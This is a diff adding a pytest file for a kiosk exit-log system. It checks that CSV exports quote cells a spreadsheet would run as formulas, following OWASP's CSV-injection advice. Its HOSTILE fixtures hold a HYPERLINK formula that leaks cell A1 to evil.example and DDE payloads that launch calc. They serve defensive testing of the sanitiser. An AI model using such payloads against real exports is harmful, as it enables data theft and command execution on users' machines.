@@ -1,0 +1,63 @@
+"""Text a gate pushed cannot become a formula in the clerk's Excel: every exported cell that starts
+with = + - @ tab or CR is prefixed with a single quote (OWASP's CSV-injection advice)."""
+from __future__ import annotations
+
+import csv
+import io
+from datetime import datetime, timedelta
+
+import httpx
+import pytest
+
+from domain.exitrow import EntryKind, LogEntry
+from kiosk.exitlog import ExitLog
+from office.console.auth import add_staff
+from office.export import neutralise_cell, to_csv
+from tests.office.harness import CST, OfficeServer
+from tests.office.test_api import client
+from tests.office.test_ingest import push
+
+PASSWORD = "correct horse 1"
+HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
+           "@SUM(1+1)*cmd|' /C calc'!A0"]
+
+
+@pytest.mark.parametrize("text", HOSTILE + ["\t=1+1", "\r=1+1"])
+def test_a_cell_that_a_spreadsheet_would_run_is_quoted(text: str) -> None:
+    assert neutralise_cell(text) == "'" + text
+
+
+@pytest.mark.parametrize("value", ["04A1B2C3", "张三", "", "2026-12-01T10:00:00+08:00", 7, True, "a=b"])
+def test_ordinary_cells_are_left_alone(value: object) -> None:
+    assert neutralise_cell(value) == value
+
+
+def test_the_console_csv_quotes_what_a_stolen_gate_pushed(office: OfficeServer) -> None:
+    log = ExitLog.memory("north")
+    at = datetime.now(CST) - timedelta(minutes=5)
+    for text in HOSTILE:
+        log.append(LogEntry(EntryKind.CARD_DENIED, at, card_uid=text, guard_id=text, permit_id=text[:32],
+                            reasons=(text[:64],)), clock_synced=True)
+    with client(office, office.add_gate("north")) as c:
+        assert push(c, list(log.rows()))["accepted"] == len(HOSTILE)
+    with office.engine.begin() as conn:
+        add_staff(conn, "default", "wangli", "王丽", PASSWORD)
+    with httpx.Client(base_url=office.url, timeout=10) as c:
+        assert c.post("/console/login", data={"username": "wangli", "password": PASSWORD}).status_code == 303
+        day = at.date().isoformat()
+        body = c.get("/console/log.csv", params={"from": day, "to": (at.date() + timedelta(days=1)).isoformat()})
+    assert body.status_code == 200
+    rows = list(csv.DictReader(io.StringIO(body.content.decode("utf-8-sig"))))
+    assert sorted(r["card_uid"] for r in rows) == sorted("'" + t for t in HOSTILE)
+    for r in rows:
+        for name in ("card_uid", "guard_id", "permit_id", "reasons"):
+            assert r[name].startswith("'"), (name, r[name])
+    assert not [cell for r in rows for cell in r.values() if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+
+
+def test_the_cli_export_uses_the_same_rule() -> None:
+    row = {"gate_id": "north", "seq": 1, "at": "2026-12-01T10:00:00+08:00", "kind": "card_pass", "guard_id": "@g",
+           "card_uid": "=1+1", "permit_id": "", "slip_id": "", "reasons": ["-x"], "detail": {}, "clock_synced": True,
+           "event_id": "e", "hash": "0" * 64}
+    out = list(csv.reader(io.StringIO(to_csv([row]).decode("utf-8-sig"))))[1]
+    assert out[4:7] == ["'@g", "'=1+1", ""] and out[8] == "'-x"
